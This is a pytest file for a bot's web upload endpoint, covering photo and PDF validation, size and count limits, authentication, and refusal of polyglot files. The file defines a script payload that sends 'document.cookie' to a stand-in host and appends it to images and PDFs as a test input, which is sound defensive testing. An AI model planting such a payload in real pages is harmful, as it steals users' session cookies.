"""The web page uploads photos and PDFs: a multipart POST checked and kept exactly as Telegram's uploads are."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp.test_utils import TestClient

from bot.app import build_app
from bot.settings import Settings
from tests.support.catalog import says
from tests.support.fakes import EXE, JPEG, PDF, PNG
from tests.support.uploads import kept, reach_photos, say, text, upload
from tests.support.web import token_for


@pytest.fixture
async def client(aiohttp_client: Any, tmp_path: Path) -> TestClient:
    settings = Settings(_env_file=None, OCOP_DATABASE_URL=f"sqlite+aiosqlite:///{tmp_path / 'up.db'}",
                        OCOP_DATA_DIR=str(tmp_path / "data"), OCOP_MAX_UPLOAD_MB=1, OCOP_FLOOD_BURST=1000)
    return await aiohttp_client(build_app(settings, run_scheduler=False))


async def test_photos_several_at_once_and_bad_ones_refused_with_nothing_kept(client: TestClient,
                                                                           tmp_path: Path) -> None:
    asked = await reach_photos(client)
    assert asked[-1]["accepts"] == "photo"  # the page offers the camera and the gallery here
    for bad, answer in (((EXE, "anh.jpg", "image/jpeg"), "không phải ảnh JPG"),  # an .exe named .jpg
                        ((JPEG[: len(JPEG) // 2], "cut.jpg", "image/jpeg"), "thiếu một phần"),  # cut off
                        ((b"\xff\xd8\xff" + b"0" * (1024 * 1024 + 10), "big.jpg", "image/jpeg"), "1 MB"),
                        ((PDF, "a.pdf", "application/pdf"), "không phải ảnh JPG")):  # a PDF where photos go
        assert answer in text(await upload(client, bad)), answer
    assert kept(tmp_path) == []
    twenty = await upload(client, *[(JPEG, f"{i}.jpg", "image/jpeg") for i in range(20)])
    assert "tối đa 10 tệp" in text(twenty) and kept(tmp_path) == []
    replies = await upload(client, (JPEG, "mat-ong.jpg", "image/jpeg"), (PNG, "nhan.png", "image/png"))
    assert says(text(replies), "form.files_received", count=2) and text(replies).count("Gửi ảnh sản phẩm") == 1
    assert len(kept(tmp_path)) == 2


async def test_a_pdf_at_a_document_step(client: TestClient, tmp_path: Path) -> None:
    await reach_photos(client)
    replies = await say(client, "bo qua")  # no product photos: the first dossier document
    assert replies[-1]["accepts"] == "document"
    replies = await upload(client, (PDF, "phieu-dang-ky.pdf", "application/pdf"))
    assert says(text(replies), "form.files_received", count=1)
    assert says(text(await upload(client, (PDF[:-8], "cut.pdf", "application/pdf"))), "error.file_incomplete")
    assert [p.suffix for p in kept(tmp_path)] == [".pdf"]


async def test_uploads_need_the_servers_identity_and_a_multipart_body(client: TestClient) -> None:
    form = aiohttp.FormData()
    form.add_field("file", JPEG, filename="a.jpg", content_type="image/jpeg")
    assert (await client.post("/api/upload", data=form)).status == 401
    bearer = {"Authorization": f"Bearer {await token_for(client, 'lan')}"}
    assert (await client.post("/api/upload", json={"file": "x"}, headers=bearer)).status == 400
    empty = aiohttp.FormData()
    empty.add_field("note", "no file here")
    assert (await client.post("/api/upload", data=empty, headers=bearer)).status == 400


SCRIPT = b"\n<script>fetch('https://evil.example/?c='+document.cookie)</script>\n"


def phone_jpeg(**save: Any) -> bytes:
    """A photo as phones save them: an EXIF thumbnail (a JPEG with its own end marker) inside, a gradient so the
    scan data holds stuffed 0xFF bytes."""
    from PIL import Image

    picture = Image.linear_gradient("L").convert("RGB").resize((320, 240))
    thumbnail = io.BytesIO()
    picture.resize((32, 24)).save(thumbnail, "JPEG")
    out = io.BytesIO()
    picture.save(out, "JPEG", quality=95, **save)
    body = out.getvalue()
    exif = b"Exif\x00\x00" + thumbnail.getvalue()
    return body[:2] + b"\xff\xe1" + (len(exif) + 2).to_bytes(2, "big") + exif + body[2:]


async def test_a_file_with_something_after_its_end_is_refused_and_a_motion_photo_keeps_its_picture(
        client: TestClient, tmp_path: Path) -> None:
    await reach_photos(client)
    for polyglot in ((PNG + SCRIPT, "nhan.png", "image/png"), (PNG + b"PK\x03\x04zipped", "nhan.png", "image/png")):
        assert says(text(await upload(client, polyglot)), "error.file_not_genuine")
    assert kept(tmp_path) == []
    for count, photo in enumerate((phone_jpeg(), phone_jpeg(progressive=True)), 1):
        motion = photo + b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 64  # a motion photo's video after the picture
        answer = text(await upload(client, (motion, "IMG_0001.jpg", "image/jpeg")))
        assert says(answer, "form.files_received", count=count)
    assert sorted(p.read_bytes() for p in kept(tmp_path)) == sorted((phone_jpeg(), phone_jpeg(progressive=True)))
    replies = await say(client, "xong")
    assert replies[-1]["accepts"] == "document"
    assert says(text(await upload(client, (PDF + SCRIPT, "don.pdf", "application/pdf"))),
                "error.file_not_genuine")
    trailing_blanks = PDF + b"\r\n\x00\x00"  # as some scanners save them
    assert says(text(await upload(client, (trailing_blanks, "don.pdf", "application/pdf"))),
                "form.files_received", count=1)
